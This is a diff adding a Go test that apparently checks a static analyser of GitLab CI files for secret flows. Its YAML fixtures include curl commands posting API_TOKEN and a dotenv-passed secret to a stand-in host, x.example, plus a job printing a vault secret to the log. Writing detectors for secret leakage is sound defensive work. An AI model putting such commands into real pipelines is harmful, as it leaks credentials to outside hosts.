@@ -332,6 +332,31 @@ func TestGitLabIsReadWithinLimits(t *testing.T) {
 	}
 }
 
+func TestGitLabFlows(t *testing.T) {
+	tests := []struct{ name, text, want string }{
+		{"the input of a component", "spec: {inputs: {a: {}}}\n---\nb: {script: ['curl $[[ inputs.a ]] -H x:$API_TOKEN https://x.example/$[[ inputs.a ]]']}\n", "b argv API_TOKEN unknown, b network API_TOKEN unknown"},
+		{"what an earlier stage makes", "b: {stage: deploy, script: ['curl -d $T https://x.example']}\na:\n  stage: build\n  script: ['echo T=$API_TOKEN > v.env']\n  artifacts: {reports: {dotenv: v.env}}\n", "a file API_TOKEN unknown, a output API_TOKEN unknown, b argv API_TOKEN unknown, b network API_TOKEN unknown"},
+		{"a file of the runner", "a:\n  secrets: {KEY: {vault: a/b/c}}\n  script: ['cat $KEY | base64']\n", "a log c no"},
+		{"another shell", "a:\n  script: ['X=$API_TOKEN']\n  after_script: ['curl -d $X https://x.example']\n", ""},
+	}
+	for _, test := range tests {
+		t.Run(test.name, func(t *testing.T) {
+			doc := linkGitLab(t, tree{".gitlab-ci.yml": test.text}, ".gitlab-ci.yml")
+			var got []string
+			for _, flow := range doc.Root.Get("flows").List() {
+				got = append(got, strings.Join([]string{flow.Get("job").Str(), flow.Get("sink").Str(), flow.Get("secret", "name").Str(), flow.Get("masked").Str()}, " "))
+			}
+			slices.Sort(got)
+			if diff := cmp.Diff(test.want, strings.Join(slices.Compact(got), ", ")); diff != "" {
+				t.Error(diff)
+			}
+			if gaps := doc.Root.Get("gaps").List(); len(gaps) > 0 {
+				t.Errorf("got the gap %q", gaps[0].Get("what").Str())
+			}
+		})
+	}
+}
+
 // The policies are run over definitions as they are written.
 func TestPoliciesOnGitLab(t *testing.T) {
 	policies := compile(t)
